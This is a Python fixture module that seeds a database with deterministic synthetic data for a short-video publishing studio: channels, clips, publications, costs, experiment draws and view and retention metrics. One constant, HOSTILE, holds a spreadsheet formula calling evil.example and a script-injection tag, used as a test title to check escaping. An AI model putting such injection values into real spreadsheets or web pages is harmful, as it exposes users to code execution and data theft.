"""A studio with results, made by code: the same for the same seed."""

import random
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import sqlalchemy as sa

from viral_forge_resources.contracts.experiments import Arm, Reason, Rules
from viral_forge_resources.contracts.keys import short_hash
from viral_forge_resources.contracts.metrics import (
    AGES,
    AVERAGE_SHARE_VIEWED,
    COMMENTS,
    ENGAGED_VIEWS,
    ESTIMATED_REVENUE,
    LIKES,
    SHARES,
    VIEWS,
    WATCH_TIME,
    curve_point,
)
from viral_forge_resources.contracts.publishing import PublicationState
from viral_forge_resources.contracts.records import CandidateStatus
from viral_forge_resources.contracts.scanning import NichePolicy
from viral_forge_resources.state.tables import (
    approvals,
    candidates,
    channels,
    clips,
    cost_events,
    draws,
    experiments,
    niches,
    post_metrics,
    publications,
    sightings,
)

END = datetime(2026, 11, 20, tzinfo=UTC)
"""Before which all posts went out; day 2026-11-19 is the last whole one."""

HOSTILE = '=cmd("https://evil.example") <script>alert(1)</script> $\\frac{1}{0}$ \u6599\u7406'
"""A title that would run in a spreadsheet, in a page and in a formula, and needs other fonts."""

_CHANNELS = ("youtube:kitchen", "youtube:orbit", "tiktok:kitchen")
_TURNS = ("youtube:kitchen", "youtube:orbit", "youtube:kitchen", "tiktok:kitchen")
_NICHE_OF = {"youtube:kitchen": "cooking", "tiktok:kitchen": "cooking", "youtube:orbit": "space"}
_RECIPES = {"clean": 0.0, "talk": 0.12, "noir": -0.1}
_HOUR = timedelta(hours=1)


@dataclass(frozen=True, slots=True, kw_only=True)
class Scale:
    """How much there is.

    Attributes:
        points: of each retention curve, on YouTube's channels; 0: there are no curves.
        days: over which the posts went out.
    """

    posts: int = 60
    points: int = 20
    days: int = 40
    seed: int = 1


def fill(state: sa.Engine, scale: Scale | None = None) -> None:
    """Two niches and three channels with posts, readings, costs, a queue and what was seen."""
    scale = scale or Scale()
    dice = random.Random(scale.seed)  # noqa: S311  the same studio every time
    made = [_post(number, scale, dice) for number in range(scale.posts)]
    tried = [post for post in made if post["candidate"]["niche"] == "cooking"]
    with state.begin() as connection:
        connection.execute(sa.insert(niches), [_niche(name) for name in ("cooking", "space")])
        connection.execute(sa.insert(channels), [_channel(name) for name in _CHANNELS])
        for table, name in _TABLES:
            connection.execute(sa.insert(table), [post[name] for post in made])
        connection.execute(sa.insert(sightings), list(_seen(scale, dice)))
        connection.execute(sa.insert(experiments), _experiment())
        connection.execute(sa.insert(draws), [_draw(*each) for each in enumerate(tried, 1)])
        for post in made:
            rows = list(_readings(post["publication"], post["quality"], scale, dice))
            if rows:
                connection.execute(sa.insert(post_metrics), rows)


_TABLES: Sequence[tuple[sa.Table, str]] = (
    (candidates, "candidate"),
    (clips, "clip"),
    (publications, "publication"),
    (approvals, "approval"),
    (cost_events, "cost"),
)


def _niche(name: str) -> dict[str, Any]:
    return {
        "name": name, "queries": (name,), "watched": {}, "policy": NichePolicy(),
        "saved_at": END - timedelta(days=90),
    }  # fmt: skip


def _channel(channel_id: str) -> dict[str, Any]:
    publisher, _, name = channel_id.partition(":")
    return {
        "channel_id": channel_id, "publisher": publisher, "name": name,
        "niche": _NICHE_OF[channel_id], "saved_at": END - timedelta(days=90),
    }  # fmt: skip


def _experiment() -> dict[str, Any]:
    return {
        "experiment_id": "trial", "niche": "cooking", "rules": Rules(), "started_by": "ada",
        "arms": tuple(Arm(name=recipe, recipe=recipe) for recipe in _RECIPES),
        "started_at": END - timedelta(days=90),
    }  # fmt: skip


def _draw(number: int, post: Mapping[str, Any]) -> dict[str, Any]:
    return {
        "experiment_id": "trial", "candidate_key": post["candidate"]["candidate_key"],
        "number": number, "arm": post["clip"]["recipe"], "probability": 1 / 3,
        "probabilities": {}, "reason": Reason.LEARNED, "posterior": "p", "seed": "s",
        "drawn_at": post["clip"]["rendered_at"] - _HOUR,
    }  # fmt: skip


def _post(number: int, scale: Scale, dice: random.Random) -> dict[str, Any]:
    channel = _TURNS[number % len(_TURNS)]
    niche, recipe = _NICHE_OF[channel], dice.choice(list(_RECIPES))
    key, sha256 = f"{niche}:inbox:video-{number}", short_hash(f"content {number}", length=64)
    posted = END - timedelta(days=scale.days) * (1 - (number + 0.5) / scale.posts)
    posted = posted.replace(hour=dice.choice((7, 12, 18, 20)), minute=dice.randrange(60))
    quality = min(max(dice.gauss(0.5, 0.15) + _RECIPES[recipe], 0.05), 0.95)
    is_queued = number >= scale.posts - max(scale.posts // 10, 1)
    title = HOSTILE if number == 0 else f"{niche.title()} clip {number}"
    return {
        "quality": quality,
        "candidate": {
            "candidate_key": key, "niche": niche, "platform": "inbox",
            "platform_video_id": f"video-{number}", "locator": f"/inbox/{number}.mp4",
            "title": title, "status": CandidateStatus.SHORTLISTED, "decided_at": posted - _HOUR,
            "reason": "chosen", "score_parts": (), "rights_id": "right-1",
            "score": min(max(quality + dice.gauss(0, 0.15), 0.0), 0.99),
        },
        "clip": {
            "candidate_key": key, "number": 1, "content_sha256": sha256,
            "storage_key": f"{niche}/inbox/video-{number}/transform/clip-1.mp4",
            "recipe": recipe, "recipe_hash": short_hash(recipe, length=64), "plan_hash": sha256,
            "source_sha256": sha256, "rights_id": "right-1", "duration_s": 30.0,
            "render_cpu_s": 20.0, "rendered_at": posted - _HOUR, "checks": (), "materials": (),
        },
        "publication": {
            "publication_id": short_hash(sha256, channel), "candidate_key": key, "clip_number": 1,
            "content_sha256": sha256, "channel_id": channel, "title": title, "description": "",
            "tags": (), "due_at": posted, "planned_at": posted - _HOUR, "priority": 0,
            "attempts": 1,
            "state": PublicationState.PLANNED if is_queued else PublicationState.PUBLISHED,
            "published_at": None if is_queued else posted,
            "post_url": None if is_queued else f"https://{channel.partition(':')[0]}.example/{number}",
        },
        "approval": {
            "content_sha256": sha256, "is_approved": True, "decided_by": "ada",
            "decided_at": posted - _HOUR,
        },
        "cost": {
            "at": posted - _HOUR, "kind": "render", "provider": "local", "model": "ffmpeg",
            "niche": niche, "candidate_key": key, "clip_number": 1, "quantity": 20.0,
            "unit": "cpu_s", "usd": 0.04 + dice.random() / 20, "is_estimate": False,
        },
    }  # fmt: skip


def _readings(
    post: Mapping[str, Any], quality: float, scale: Scale, dice: random.Random
) -> Iterator[dict[str, Any]]:
    posted, platform = post["published_at"], post["channel_id"].partition(":")[0]
    if posted is None:
        return
    final = 200 * 60**quality * dice.lognormvariate(0, 0.3)
    for age in AGES:
        as_of = posted + age
        if as_of < END:
            views = round(final * (age / (age + timedelta(hours=30))))
            yield from _at(post, as_of, _numbers(platform, views, quality))
            if scale.points and platform == "youtube" and age >= timedelta(hours=72):
                yield from _at(post, as_of, _curve(quality, scale.points))


def _numbers(platform: str, views: int, quality: float) -> dict[str, tuple[float, str]]:
    both = {
        VIEWS: (views, "count"),
        LIKES: (round(views * 0.04 * (0.5 + quality)), "count"),
        COMMENTS: (round(views * 0.004), "count"),
        SHARES: (round(views * 0.01 * quality), "count"),
    }
    youtubes = {
        ENGAGED_VIEWS: (round(views * (0.4 + 0.4 * quality)), "count"),
        WATCH_TIME: (round(views * 30 * quality), "s"),
        AVERAGE_SHARE_VIEWED: (quality, "ratio"),
        ESTIMATED_REVENUE: (round(views * 0.0001, 4), "USD"),
    }
    return both | (youtubes if platform == "youtube" else {})


def _curve(quality: float, points: int) -> dict[str, tuple[float, str]]:
    found = {}
    for number in range(1, points + 1):
        place = number / points
        kept = 1.05 * (1 - place) ** (1.3 - quality) * (0.4 + 0.6 * quality) + 0.1 * quality
        found[curve_point(place)] = (round(kept, 3), "ratio")
    return found


def _at(
    post: Mapping[str, Any], as_of: datetime, numbers: Mapping[str, tuple[float, str]]
) -> Iterator[dict[str, Any]]:
    platform = post["channel_id"].partition(":")[0]
    for metric, (value, unit) in numbers.items():
        yield {
            "publication_id": post["publication_id"], "metric": metric, "value": float(value),
            "unit": unit, "as_of": as_of, "source": f"{platform} API",
            "definition": f"{platform} {metric.partition('@')[0]} v1: as the test says",
        }  # fmt: skip


def _seen(scale: Scale, dice: random.Random) -> Iterator[dict[str, Any]]:
    for number in range(scale.posts * 10):
        yield {
            "niche": "cooking" if number % 2 else "space", "platform": "inbox",
            "platform_video_id": f"seen-{number}", "seen_at": END - _HOUR * dice.randrange(900),
            "locator": f"/inbox/seen-{number}.mp4", "title": f"Seen {number}", "tags": (),
            "is_hand_picked": False,
        }  # fmt: skip
